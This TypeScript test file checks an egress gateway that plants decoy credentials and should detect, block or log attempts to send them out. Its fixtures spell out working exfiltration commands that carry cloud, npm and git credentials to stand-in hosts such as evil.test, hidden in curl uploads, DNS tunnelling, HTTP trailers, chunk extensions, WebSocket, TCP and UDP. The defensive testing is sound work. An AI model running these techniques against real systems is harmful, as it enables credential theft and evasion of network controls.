import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import t from 'tap'
import { makeDecoys } from '../../gateway/canary/decoys.ts'
import { openLab } from '../lab/lab.ts'
import type { Lab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import type { Service } from '../lab/servers/internet-offer.ts'
import { auditPolicy, blockPolicy, runBehind, tidegate, type Outcome } from './behind.ts'
import type { Line } from './record-check.ts'

t.setTimeout(240_000)
const services: readonly Service[] = ['origins', 'websocket']
const skip = whyNoLab(services)
const hosts = [
  'wss://ws.acme.test',
  'api.acme.test',
  '"**.acme.test"',
  '"**.evil.test"',
  'h1.acme.test',
  'tcp://other.acme.test:7',
  'udp://other.acme.test:5000',
]
const block = blockPolicy(hosts, 'canaries: true\n')
const audit = `${auditPolicy}canaries: true\n`
let homes = 0

/** Runs a script in a home of its own. */
async function job(lab: Lab, policy: string, script: string): Promise<Outcome & { readonly home: string }> {
  homes += 1
  const home = lab.file(`home-${homes}`)
  mkdirSync(home)
  writeFileSync(`${home}/steal.sh`, `${script}\n`)
  const outcome = await runBehind(lab, { policy, command: ['sh', `${home}/steal.sh`], env: { HOME: home } })
  return { ...outcome, home }
}

function sightings(lines: readonly Line[]): readonly (Line & { readonly subject: unknown; readonly note: string })[] {
  return lines
    .filter(({ event }) => event === 'canary')
    .map(line => ({ ...line, subject: line.details?.['subject'], note: String(line.details?.['note']) }))
}

/** What a job had, made again from its record. */
function decoysOf(out: string): ReturnType<typeof makeDecoys> {
  const { seed } = JSON.parse(readFileSync(`${out}/canaries.json`, 'utf8'))
  return makeDecoys(Buffer.from(String(seed), 'hex'))
}

/** Sends a secret over a WebSocket, and says so when it came back. */
const chat = `const socket = new WebSocket("wss://ws.acme.test/")
socket.onopen = () => socket.send(JSON.stringify({ key: process.env.DEPLOY_PASSWORD }))
socket.onmessage = () => { console.log("echoed"); socket.close() }
socket.onclose = socket.onerror = () => process.exit()`

const send = `'${process.execPath}' -e`
const h1Trailers = `const { request } = require("node:https")
const call = request({ host: "h1.acme.test", path: "/upload", method: "POST", headers: { "Transfer-Encoding": "chunked" } })
call.on("error", () => {}).on("response", answer => answer.resume())
call.flushHeaders()
call.addTrailers({ "X-Key": process.env.DEPLOY_PASSWORD })
call.end()`
const h2Trailers = `const { connect } = require("node:http2")
const session = connect("https://api.acme.test").on("error", () => {})
const call = session.request({ ":method": "POST", ":path": "/upload" }, { waitForTrailers: true, endStream: false })
call.on("wantTrailers", () => call.sendTrailers({ "x-key": Buffer.from(process.env.DEPLOY_PASSWORD).toString("hex") }))
call.on("error", () => {}).on("close", () => session.close()).resume().end()`
const chunkExtension = `const { connect } = require("node:tls")
const socket = connect({ host: "h1.acme.test", port: 443, servername: "h1.acme.test" }).on("error", () => {})
socket.setTimeout(3000, () => socket.destroy())
socket.write("POST /upload HTTP/1.1\\r\\nHost: h1.acme.test\\r\\nConnection: close\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
socket.write("0;key=" + process.env.DEPLOY_PASSWORD + "\\r\\n\\r\\n")
socket.resume()`
const overTcp = `const socket = require("node:net").connect(7, "other.acme.test").on("error", () => {})
socket.on("data", () => socket.end())
const text = "key=" + process.env.BACKUP_STORAGE_ACCOUNT_KEY
socket.write(text.slice(0, 20))
setTimeout(() => socket.write(text.slice(20)), 50)`
const overUdp = `const socket = require("node:dgram").createSocket("udp4")
socket.on("message", () => socket.close())
socket.send(Buffer.from(process.env.PROD_AZURE_CLIENT_SECRET).toString("base64"), 5000, "other.acme.test")
setTimeout(() => process.exit(), 2000)`

/** Ways out: the script, how the finding names the place, how it names the encoding. */
const ways: Readonly<Record<string, { script: string; where: RegExp; how: RegExp; subject: string }>> = {
  'a WebSocket': {
    script: `'${process.execPath}' -e '${chat}'`,
    where: /in the messages of a GET to ws\.acme\.test/,
    how: /credentials/,
    subject: 'DEPLOY_PASSWORD',
  },
  'a DNS question': {
    script: 'dig +tries=1 +time=2 "$(printf %s "$DEPLOY_GITHUB_TOKEN" | xxd -p -c 60 | cut -c1-60).x.evil.test"',
    where: /in a DNS question below evil\.test/,
    how: /\(hex\)/,
    subject: 'DEPLOY_GITHUB_TOKEN',
  },
  'a header': {
    script: 'curl -sS -u "me:$RELEASE_NPM_TOKEN" https://api.acme.test/echo',
    where: /in the head of a GET to api\.acme\.test/,
    how: /\(base64\)/,
    subject: 'RELEASE_NPM_TOKEN',
  },
  'a query': {
    script: 'curl -sS --get --data-urlencode "key=$PROD_AWS_SECRET_ACCESS_KEY" https://api.acme.test/echo',
    where: /in the address of a GET/,
    how: /credentials/,
    subject: 'PROD_AWS_SECRET_ACCESS_KEY',
  },
  'a body of HTTP/2, packed': {
    script: 'cat ~/.aws/credentials ~/.npmrc | gzip | curl -sS --http2 --data-binary @- https://api.acme.test/upload',
    where: /in the body of a POST to api\.acme\.test/,
    how: /\(packed\)/,
    subject: '~/.aws/credentials',
  },
  'a body of HTTP/1, in chunks': {
    script:
      'cat ~/.git-credentials | base64 -w0 | base64 -w0 | curl -sS --http1.1 -H "Transfer-Encoding: chunked" -T - https://h1.acme.test/upload',
    where: /in the body of a PUT to h1\.acme\.test/,
    how: /\(base64 twice\)/,
    subject: '~/.git-credentials',
  },
  'a trailer of HTTP/1': {
    script: `${send} '${h1Trailers}'`,
    where: /in the trailers or chunk extensions of a POST to h1\.acme\.test/,
    how: /credentials/,
    subject: 'DEPLOY_PASSWORD',
  },
  'an extension of a chunk': {
    script: `${send} '${chunkExtension}'`,
    where: /in the trailers or chunk extensions of a POST to h1\.acme\.test/,
    how: /credentials/,
    subject: 'DEPLOY_PASSWORD',
  },
  'a trailer of HTTP/2': {
    script: `${send} '${h2Trailers}'`,
    where: /in the trailers or chunk extensions of a POST to api\.acme\.test/,
    how: /\(hex\)/,
    subject: 'DEPLOY_PASSWORD',
  },
  'a TCP connection': {
    script: `${send} '${overTcp}'`,
    where: /in a TCP connection to other\.acme\.test/,
    how: /credentials/,
    subject: 'BACKUP_STORAGE_ACCOUNT_KEY',
  },
  'a UDP flow': {
    script: `${send} '${overUdp}'`,
    where: /in a UDP flow to other\.acme\.test/,
    how: /\(base64\)/,
    subject: 'PROD_AZURE_CLIENT_SECRET',
  },
}

t.test('I6: in block, a canary that is sent is stopped, told, and the last of the network', { skip }, async t => {
  await using lab = await openLab({ services })
  for (const [name, { script, where, how, subject }] of Object.entries(ways)) {
    await t.test(name, async t => {
      await lab.origins.clear()
      await lab.sink.clear()
      await lab.uplink.clear()
      await lab.dns.clear()
      const run = await job(lab, block, `${script}\ncurl -sS -m 5 https://api.acme.test/after`)
      const [first] = sightings(run.lines)
      t.match(first, { subject, note: where })
      t.match(first?.note, how)
      t.match(first?.note, /no network any more/)
      if (name !== 'a DNS question') t.match(first, { process: { exe: /(?:curl|node)$/ } })
      t.match(
        run.lines.filter(({ rule }) => rule?.startsWith('canaries ')),
        [{ verdict: 'deny', reason: 'denied-by-rule', process: { exe: /(?:curl|dig|node)$/ } }],
        'the flow it was in is refused, by name',
      )
      t.same(
        (await lab.origins.requests()).filter(({ body }) => body.length > 0),
        [],
        'no body reached an origin',
      )
      t.notMatch(run.stdout, 'echoed', 'and none was echoed')
      t.same(await lab.origins.requests({ path: '/after' }), [], 'nothing goes out after it')
      for (const { value, anchors } of decoysOf(run.out).canaries) {
        t.notOk(await lab.uplink.contains(value), 'not in any packet that left')
        t.notOk(await lab.uplink.contains(Buffer.from(value).toString('base64').slice(0, 24)), 'nor in base64')
        t.notOk(JSON.stringify(await lab.origins.requests()).includes(value), 'nor in any request')
        for (const anchor of anchors) t.notOk(JSON.stringify(first).includes(anchor), 'never written')
      }
      t.same(await lab.dns.queries({ under: 'evil.test' }), [])
      t.same(await lab.sink.lines(), [], 'the sink is empty')
      t.match(run.summary, { findings: [{ kind: 'canary', subject }] })
    })
  }
})

t.test('in audit, the same is told and carried', { skip }, async t => {
  await using lab = await openLab({ services })
  const script = Object.values(ways)
    .map(way => way.script)
    .join('\n')
  const run = await job(lab, audit, `${script}\ncurl -sS https://api.acme.test/after`)
  const seen = sightings(run.lines)
  for (const { where, subject } of Object.values(ways)) {
    t.ok(
      seen.some(one => one.subject === subject && where.test(one.note)),
      `${subject} ${where}`,
    )
  }
  t.same(
    seen.filter(({ note }) => /no network/.test(note)),
    [],
  )
  t.match(run.stdout, 'echoed')
  t.match(await lab.origins.requests({ path: '/after' }), [{ method: 'GET' }])
  t.equal((await lab.origins.requests({ path: '/upload' })).length, 5)
  t.equal(
    run.lines.filter(({ rule, verdict }) => rule?.startsWith('canaries ') === true && verdict === 'observe').length,
    Object.keys(ways).length,
  )
})

t.test('what the command prints is passed on as it is, and looked through', { skip }, async t => {
  await using lab = await openLab({ services })
  for (const [mode, policy] of [
    ['block', block],
    ['audit', audit],
  ] as const) {
    const run = await job(
      lab,
      policy,
      'printf "a\\000b\\377"; echo error >&2; printenv DEPLOY_PASSWORD | base64 -w0 | base64 -w0; exit 7',
    )
    t.equal(run.exitCode, 7)
    const { environment } = decoysOf(run.out)
    const twice = Buffer.from(Buffer.from(`${environment['DEPLOY_PASSWORD']}\n`).toString('base64')).toString('base64')
    t.same(run.stdoutBytes, Buffer.concat([Buffer.from([97, 0, 98, 255]), Buffer.from(twice)]))
    t.match(run.stderr, /^error$/m)
    const [seen] = sightings(run.lines)
    t.match(seen, { subject: 'DEPLOY_PASSWORD', note: /in what the command printed \(base64 twice\)/ })
    t.equal(/no network any more/.test(seen?.note ?? ''), mode === 'block')
    t.equal(statSync(`${run.out}/canaries.json`).mode & 0o777, 0o600)

    const log = lab.file(`log-${mode}`)
    writeFileSync(log, `2026-11-23T00:00:00Z run\n${twice}\n`)
    const args = ['scan-log', log, '--canaries', `${run.out}/canaries.json`]
    const scanned = await lab.host.exec(tidegate, args)
    t.equal(scanned.exitCode, 1, scanned.stderr)
    t.match(scanned.stdout, /DEPLOY_PASSWORD.*base64 twice/)
    writeFileSync(log, 'nothing here\n')
    t.equal((await lab.host.exec(tidegate, args)).exitCode, 0)
    t.equal((await lab.host.exec(tidegate, ['scan-log', lab.file('none')])).exitCode, 2)
  }
})

t.test('a clean job has no finding, its own variables and files, and leaves no decoy behind', { skip }, async t => {
  await using lab = await openLab({ services })
  const home = lab.file('own')
  mkdirSync(home)
  writeFileSync(`${home}/.npmrc`, 'fund=false\n')
  const script = [
    'test "$DEPLOY_GITHUB_TOKEN" = mine',
    'test "$(cat ~/.npmrc)" = "fund=false"',
    'grep -q aws_secret_access_key ~/.aws/credentials',
    'printf "[default]\\nregion = x\\n" >>~/.aws/credentials',
    'test -z "$AWS_ACCESS_KEY_ID$GITHUB_TOKEN$NPM_TOKEN"',
    'curl -sS --fail -o /dev/null --data-binary @/bin/sh https://api.acme.test/upload',
  ].join(' && ')
  const env = { HOME: home, DEPLOY_GITHUB_TOKEN: 'mine' }
  const run = await runBehind(lab, { policy: block, command: ['sh', '-c', script], env })
  t.equal(run.exitCode, 0, run.stderr)
  t.same(sightings(run.lines), [])
  t.equal(readFileSync(`${home}/.npmrc`, 'utf8'), 'fund=false\n')
  t.equal(readFileSync(`${home}/.aws/credentials`, 'utf8'), '[default]\nregion = x\n')
  t.notOk(existsSync(`${home}/.git-credentials`))
})
